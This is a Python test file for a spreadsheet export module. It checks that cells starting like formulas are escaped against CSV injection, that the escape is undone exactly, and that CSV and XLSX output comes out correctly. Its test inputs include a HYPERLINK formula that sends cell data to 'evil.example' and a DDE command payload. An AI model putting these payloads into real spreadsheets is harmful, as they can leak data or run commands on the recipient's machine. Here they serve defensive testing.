"""The one export module: formula guard (OWASP) that the import takes off again, numbers untouched."""

import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from segapp.exporting import CHUNK_ROWS, CsvDialect, cell_text, csv_chunks, guard_formula, unguard_formula, xlsx_chunks


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_text_starting_a_formula_is_guarded(text: str) -> None:
    assert guard_formula(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme", "", "'", "'a", "'=a", "''", "a=b", "=", "''=x", "Niccolò"])
def test_the_guard_comes_off_exactly(text: str) -> None:
    assert unguard_formula(guard_formula(text)) == text


def test_numbers_go_out_untouched() -> None:
    assert [cell_text(v) for v in (-5, 2.5, Decimal("-12.30"), True, False, None)] == [
        "-5",
        "2.5",
        "-12.30",
        "1",
        "0",
        "",
    ]


def test_csv_for_excel_in_italian_uses_semicolons_after_a_bom() -> None:
    text = "".join(csv_chunks(["Nome", "Città"], [["Rossi; Bianchi", "=1+1"]], CsvDialect(";", bom=True)))
    assert text == '\ufeffNome;Città\r\n"Rossi; Bianchi";\'=1+1\r\n'


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    rows = [["C1", '=HYPERLINK("http://x")', 3], ["C2", "a\x01b & <c> ", None], ["", True, Decimal("2.5")]]
    data = b"".join(xlsx_chunks("Contacts: [all]", ["No.", "Name", "Count"], rows))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Contacts   all "
    assert list(sheet.values) == [
        ("No.", "Name", "Count"),
        ("C1", '=HYPERLINK("http://x")', 3),
        ("C2", "ab & <c> ", None),
        (None, 1, 2.5),
    ]
    assert sheet["B2"].data_type == "s"  # text, never a formula


def test_xlsx_streams_while_the_rows_are_read() -> None:
    read = 0

    def rows() -> Iterator[list[str]]:
        nonlocal read
        for n in range(3 * CHUNK_ROWS):
            read += 1
            yield [f"C{n}", f"Name {n}"]

    chunks = xlsx_chunks("Contacts", ["No.", "Name"], rows())
    first = next(chunks)
    assert first.startswith(b"PK") and read == 0  # the file starts before any row is read
    second = next(chunks)
    assert read < 3 * CHUNK_ROWS
    data = first + second + b"".join(chunks)
    assert len(list(load_workbook(io.BytesIO(data), read_only=True).active.values)) == 3 * CHUNK_ROWS + 1
